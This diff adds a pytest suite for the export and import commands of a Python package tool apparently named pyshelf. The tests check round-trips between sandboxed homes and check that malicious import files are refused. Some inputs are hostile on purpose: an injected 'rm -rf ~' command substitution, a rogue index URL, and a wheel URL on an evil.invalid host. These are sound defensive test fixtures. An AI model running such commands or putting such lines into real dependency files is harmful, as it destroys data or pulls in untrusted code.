@@ -1,0 +1,104 @@
+"""export and import: the same state on another machine, and no trust in the file."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+import tomllib
+from tests.e2e.helpers import packages, snapshot
+from tests.support.sandbox import Sandbox
+
+
+@pytest.fixture
+def shelf(sandbox):
+    sandbox.init()
+    sandbox.ok("install", "beta", "delta[fast]", "alpha<2", "--yes")
+    return sandbox
+
+
+@pytest.fixture
+def other(tmp_path, sandbox):
+    machine = Sandbox(tmp_path / "other-home", base_python=sandbox.base_python,
+                      index_url=sandbox.index_url, uv_cache_dir=sandbox.uv_cache_dir)
+    machine.init()
+    return machine
+
+
+@pytest.mark.parametrize(("fmt", "name"), [
+    ("requirements", "shelf.txt"), ("json", "shelf.json"), ("pylock", "pylock.toml"),
+])
+def test_round_trip_into_another_home(shelf, other, fmt, name):
+    exported = other.home / name
+    shelf.ok("export", "--format", fmt, "-o", str(exported))
+    result = other.ok("import", str(exported), "--yes")
+    assert "+ alpha 1.0" in result.stdout
+    assert packages(other) == packages(shelf)
+    requested = {p["name"]: p["requested"]
+                 for p in json.loads(other.ok("list", "--json").stdout)["packages"]}
+    assert requested["delta"] == "delta[fast]" and requested["alpha"] == "alpha<2"
+
+
+def test_exact_pins_are_honoured_over_newer_releases(shelf, other):
+    exported = other.home / "pins.txt"
+    exported.write_text("alpha==1.0\ngamma==1.0\nbeta==1.0\n")
+    other.ok("import", str(exported), "--yes")
+    assert packages(other) == {"alpha": ("1.0", "explicit"), "beta": ("1.0", "explicit"),
+                               "gamma": ("1.0", "explicit")}
+
+
+def test_pylock_export_is_a_valid_pep_751_file(shelf):
+    data = tomllib.loads(shelf.ok("export", "--format", "pylock").stdout)
+    assert data["lock-version"] == "1.0"
+    found = {p["name"]: p["version"] for p in data["packages"]}
+    assert found == {"alpha": "1.0", "beta": "1.0", "delta": "1.0", "epsilon": "1.0",
+                     "eta": "1.0", "gamma": "1.1"}
+    assert all(p["wheels"][0]["hashes"]["sha256"] for p in data["packages"])
+    assert data["tool"]["pyshelf"]["requested"] == ["alpha<2", "beta", "delta[fast]"]
+
+
+def test_requirements_export_marks_what_was_asked_for(shelf):
+    text = shelf.ok("export").stdout
+    assert "alpha==1.0  # requested: alpha<2" in text
+    assert "gamma==1.1\n" in text
+
+
+@pytest.mark.parametrize(("content", "fragment"), [
+    ("beta==1.0\n--index-url http://evil.invalid/simple\n",
+     "line 2: options such as '--index-url'"),
+    ("-r other.txt\n", "line 1: options such as '-r'"),
+    ("beta==1.0\n$(rm -rf ~)\n", "line 2:"),
+    ("./local/project\n", "line 1: './local/project' looks like a path"),
+    ("evil @ https://example.invalid/evil.whl\n", "line 1: 'evil @ https"),
+    ("beta==1.0\nbeta==1.0\n", "appears more than once"),
+])
+def test_bad_import_files_are_refused_naming_the_line(shelf, content, fragment):
+    bad = shelf.home / "bad.txt"
+    bad.write_text(content)
+    before = snapshot(shelf)
+    result = shelf.run("import", str(bad), "--yes")
+    assert result.returncode == 2, result.stderr
+    assert fragment in result.stderr
+    assert snapshot(shelf) == before
+
+
+@pytest.mark.parametrize(("name", "content", "fragment"), [
+    ("bad.json", "{not json", "is not valid JSON"),
+    ("bad.json", '{"format": "other"}', "is not a pyshelf JSON export"),
+    ("pylock.toml", "lock-version = '1.0'\n[[packages]]\nname = 'x'\nversion = '1'\n"
+     "directory = { path = '/etc' }\n", "only packages from an index"),
+    ("pylock.toml", "not toml = = =", "is not valid TOML"),
+])
+def test_bad_structured_files_are_refused(shelf, name, content, fragment):
+    bad = shelf.home / name
+    bad.write_text(content)
+    before = snapshot(shelf)
+    result = shelf.run("import", str(bad), "--yes")
+    assert result.returncode == 2
+    assert fragment in result.stderr
+    assert snapshot(shelf) == before
+
+
+def test_missing_import_file(shelf):
+    result = shelf.run("import", "nope.txt", "--yes")
+    assert result.returncode == 1 and "There is no file nope.txt" in result.stderr
